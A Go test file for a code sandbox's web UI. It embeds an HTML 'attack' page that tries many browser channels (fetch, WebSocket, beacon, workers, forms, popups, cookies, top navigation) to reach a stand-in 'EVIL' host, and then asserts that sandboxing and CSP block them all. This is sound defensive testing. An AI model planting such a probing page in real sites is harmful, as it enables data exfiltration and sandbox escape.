package webui

import (
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/code-sandbox-mcp/code-sandbox-mcp/internal/test/browser"
	"github.com/code-sandbox-mcp/code-sandbox-mcp/internal/test/should"
	"github.com/code-sandbox-mcp/code-sandbox-mcp/sandbox"
)

// attack tries all ways that a page has to reach a server, or what is around it, and says what it has come to. EVIL is the server.
const attack = `<!DOCTYPE html>
<link rel=prefetch href="EVIL/prefetch"><link rel=preload as=image href="EVIL/preload"><link rel=stylesheet href="EVIL/stylesheet">
<link rel=icon href="EVIL/icon"><link rel=manifest href="EVIL/manifest">
<base href="EVIL/base/">
<style>@import url("EVIL/import"); body { background: url("EVIL/background") } @font-face { font-family: f; src: url("EVIL/font") } p { font-family: f }</style>
<script src="EVIL/script"></script><script src="relative"></script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["EVIL/speculation"]}]}</script>
<p>text<img src="EVIL/img"><iframe src="EVIL/iframe"></iframe><iframe srcdoc='<img src="EVIL/srcdoc">'></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video"></video>
<form id=form action="EVIL/form" target=other><input name=a></form><a id=link target=_blank href="EVIL/link" ping="EVIL/ping">x</a>
<canvas></canvas>
<script>
const said = {};
const ways = {
	fetch: () => fetch("EVIL/fetch", {mode: "no-cors"}),
	xhr: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open("GET", "EVIL/xhr"); x.send(); }),
	socket: () => new Promise((done, fail) => { const s = new WebSocket("EVIL/socket".replace("http", "ws")); s.onopen = done; s.onerror = fail; }),
	events: () => new Promise((done, fail) => { const s = new EventSource("EVIL/events"); s.onopen = done; s.onerror = () => { s.close(); fail(); }; }),
	beacon: () => { navigator.sendBeacon("EVIL/beacon", "x"); throw 0; }, // what it returns tells nothing
	image: () => new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = "EVIL/image"; }),
	module: () => import("EVIL/module"),
	worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker', {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))"])));
		w.onmessage = m => m.data ? done() : fail(); w.onerror = fail; }),
	own: () => fetch(OWN, {mode: "no-cors", credentials: "include"}),
	cookie: () => document.cookie + "x",
	storage: () => localStorage.length,
	parent: () => parent === window ? Promise.reject() : parent.document.title,
	service: () => navigator.serviceWorker.register(location.href),
	popup: () => open("EVIL/popup") ? "open" : Promise.reject(),
	form: () => { document.querySelector("#form").submit(); return Promise.reject(); },
	click: () => { document.querySelector("#link").click(); return Promise.reject(); },
	top: () => { if (top === window) throw 0; top.location = "EVIL/top"; },
	drawn: () => { const c = document.querySelector("canvas").getContext("2d"); c.fillRect(0, 0, 1, 1); return eval("c.getImageData(0, 0, 1, 1).data[3]") === 255 || Promise.reject(); },
};
Promise.all(Object.entries(ways).map(async ([name, way]) => {
	try { await way(); said[name] = true; } catch { said[name] = false; }
})).then(() => {
	parent.postMessage({said, origin: self.origin}, "*");
	location = "EVIL/self?" + document.title;
});
</script>`

// refreshing leaves by itself.
const refreshing = `<!DOCTYPE html><meta http-equiv="refresh" content="0; url=EVIL/refresh"><p>text`

// watching notes what comes from frames, and where they were not let to.
const watching = `window.told = []; addEventListener("message", m => told.push(m.data));
window.stopped = []; document.addEventListener("securitypolicyviolation", v => stopped.push(v.effectiveDirective));`

// evil is a server that notes what reaches it.
type evil struct {
	*httptest.Server
	mu   sync.Mutex
	seen map[string]bool
}

func newEvil(t *testing.T) *evil {
	e := &evil{seen: make(map[string]bool)}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		e.seen[strings.TrimPrefix(r.URL.Path, "/")] = true
		e.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if r.URL.Path == "/attack" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = fmt.Fprint(w, e.arm(attack))
		}
	}))
	t.Cleanup(e.Close)
	return e
}

// arm makes an attack one on this server.
func (e *evil) arm(page string) string {
	return strings.NewReplacer("EVIL", e.URL, "OWN", `"/ui/v1/sessions/mine/files"`).Replace(page)
}

func (e *evil) reached() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return slices.Sorted(maps.Keys(e.seen))
}

func TestPagesOfASessionInChromium(t *testing.T) {
	p := browser.Open(t)
	s := serve(t, Options{NoAuth: true})
	e := newEvil(t)
	p.Call("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": watching}, nil)

	// What the attack does where nothing holds it.
	p.Call("Page.navigate", map[string]any{"url": e.URL + "/attack"}, nil)
	p.Await("location.pathname === '/self'")
	free := e.reached()
	for _, way := range []string{"stylesheet", "import", "background", "font", "script", "base/relative", "img", "srcdoc", "fetch", "xhr", "socket", "events", "beacon", "module", "worker"} {
		if !slices.Contains(free, way) {
			t.Errorf("the attack does not try %s: %v", way, free)
		}
	}
	e.Close()
	e = newEvil(t)

	for name, page := range map[string]string{"attack.html": attack, "refresh.html": refreshing} {
		put := sandbox.Upload{SessionID: "mine", Path: "input/" + name, Content: strings.NewReader(e.arm(page))}
		if _, _, err := s.manager.Upload(t.Context(), put); err != nil {
			t.Fatal(err)
		}
	}
	s.finish(s.manager, "mine", "import shutil\nfor name in ('attack.html', 'refresh.html'): shutil.copy('input/' + name, 'output')")
	const over = "told.length === 1 && stopped.filter(d => d === 'frame-src').length === %d"
	expect := func(where string) {
		t.Helper()
		for name, done := range p.See("told[0].said").(map[string]any) {
			if done != (name == "drawn") {
				t.Errorf("%s: %s is %v", where, name, done)
			}
		}
		should.Equal(t, p.See("told[0].origin"), "null", "%s: it is of the origin", where)
		if reached := e.reached(); len(reached) > 0 {
			t.Errorf("%s: it has reached %v", where, reached)
		}
	}
	p.Call("Page.navigate", map[string]any{"url": s.url}, nil)
	p.Await("document.querySelectorAll('#runs iframe').length === 2")
	p.See("document.querySelectorAll('#runs iframe').forEach(f => { f.loading = 'eager'; })")
	p.Await(fmt.Sprintf(over, 2))
	expect("on the page")

	for file, stops := range map[string]string{"attack.html": fmt.Sprintf(over, 1), "refresh.html": "stopped.includes('frame-src')"} {
		p.Call("Page.navigate", map[string]any{"url": s.url + "/ui/v1/sessions/mine/files/output/" + file}, nil)
		p.Await("document.title === '" + file + "' && " + stops)
		if file == "attack.html" {
			expect("by itself")
		}
	}
	if reached := e.reached(); len(reached) > 0 {
		t.Errorf("by itself: it has reached %v", reached)
	}
}
